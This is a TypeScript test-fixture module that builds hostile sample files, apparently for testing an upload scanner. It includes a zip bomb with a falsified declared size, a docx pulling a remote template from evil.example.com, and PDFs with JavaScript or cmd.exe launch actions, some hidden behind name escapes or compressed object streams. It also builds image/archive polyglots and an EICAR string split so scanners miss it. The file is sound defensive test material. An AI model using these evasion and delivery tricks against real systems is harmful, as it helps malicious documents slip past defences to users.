import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { aDocx, aPdf, aPng, aZip } from './files.ts'

/** Files that try to be what they are not, or to do harm when they are opened; small, and real in what makes them bad. */

/** One entry of a zip, packed, with the size that its directory declares: a lie when it is given. */
const packedEntry = (name: string, content: Buffer, declaredBytes: number, at: number) => {
  const packed = deflateRawSync(content, { level: 9 })
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20, 0)
  common.writeUInt16LE(8, 4)
  common.writeUInt32LE(crc32(content), 10)
  common.writeUInt32LE(packed.length, 14)
  common.writeUInt32LE(declaredBytes, 18)
  common.writeUInt16LE(Buffer.byteLength(name), 22)
  const tail = Buffer.alloc(14)
  tail.writeUInt32LE(at, 10)
  return {
    local: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, Buffer.from(name), packed]),
    central: Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), common, tail, Buffer.from(name)]),
  }
}

/** A document whose one large part unpacks to `realBytes` and says `declaredBytes`. */
export const anOfficeBomb = (realBytes: number, declaredBytes = realBytes): Buffer => {
  const types = Buffer.from(
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  )
  const first = packedEntry('[Content_Types].xml', types, types.length, 0)
  const second = packedEntry('word/document.xml', Buffer.alloc(realBytes, 'a'), declaredBytes, first.local.length)
  const directory = Buffer.concat([first.central, second.central])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(2, 8)
  end.writeUInt16LE(2, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(first.local.length + second.local.length, 16)
  return Buffer.concat([first.local, second.local, directory, end])
}

const officeParts = (extra: readonly (readonly [string, string])[]): Buffer =>
  aZip([
    [
      '[Content_Types].xml',
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    ['word/document.xml', '<w:document/>'],
    ...extra,
  ])

export const aDocxWithControl = officeParts([['word/activeX/activeX1.xml', '<ax/>']])
export const aDocxWithTemplateElsewhere = officeParts([
  [
    'word/_rels/settings.xml.rels',
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/></Relationships>',
  ],
])
export const aDocxWithPackedFile = officeParts([
  ['word/embeddings/oleObject1.bin', Buffer.from('\u0001Ole10Native', 'utf16le').toString('latin1')],
])
export const aBrokenDocx = aDocx.subarray(0, aDocx.length - 30)

const pdfWith = (body: string): Buffer =>
  Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog ${body}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1')

export const aPdfWithScript = pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')
/** The name of the action is written with an escape, as malware does. */
export const aPdfWithDisguisedScript = pdfWith('/OpenAction<</S/J#61vaScript/J#53 (app.alert(1))>>')
export const aPdfWithLaunch = pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')

/** The action stands in a packed object stream, where no search through the raw bytes finds it. */
export const aPdfWithPackedScript = (() => {
  const packed = deflateSync(Buffer.from('2 0 <</S/JavaScript/JS(app.alert(1))>>'))
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
    packed,
    Buffer.from('\nendstream endobj\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n%%EOF\n'),
  ])
})()

/** Says JavaScript in its text, which harms nobody: it is inside a content stream, not an action. */
export const aPdfAboutScript = (() => {
  const packed = deflateSync(Buffer.from('BT (an expert opinion about /JavaScript and /Launch) Tj ET'))
  return Buffer.concat([
    aPdf.subarray(0, aPdf.indexOf('trailer')),
    Buffer.from(`4 0 obj<</Filter/FlateDecode/Length ${packed.length}>>stream\n`),
    packed,
    Buffer.from('\nendstream endobj\n'),
    aPdf.subarray(aPdf.indexOf('trailer')),
  ])
})()

/** A picture of a few bytes that claims to be as large as given. */
export const aHugePng = (width: number, height: number): Buffer => {
  const png = Buffer.from(aPng)
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29)
  return png
}

/** A picture that every viewer shows, and that opens as an archive when its name is changed (图种). */
export const aPictureWithZip = Buffer.concat([aPng, aZip([['证据.exe', 'MZ']])])
export const aPictureWithRar = Buffer.concat([aPng, Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1')])

/** The test sign that every scanner knows (eicar.org); put together here, so that no scanner stops at this file. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join('')
